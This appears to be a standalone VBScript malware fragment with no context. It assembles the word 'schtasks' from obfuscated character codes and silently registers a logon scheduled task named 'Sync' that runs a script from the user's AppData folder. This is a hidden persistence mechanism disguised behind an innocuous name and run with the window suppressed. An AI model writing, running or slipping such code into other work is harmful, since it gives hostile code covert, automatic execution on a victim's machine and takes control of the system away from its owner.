Set sh = CreateObject("WScript.Shell")
t = ChrW(&H73) & ChrW(99) & ChrW(104) & ChrW(50 + 66) & ChrW(97) & ChrW(115) & ChrW(107) & ChrW(115)
sh.Run t & " /create /sc onlogon /tn Sync /tr ""wscript.exe %APPDATA%\sync.vbs"" /f", 0
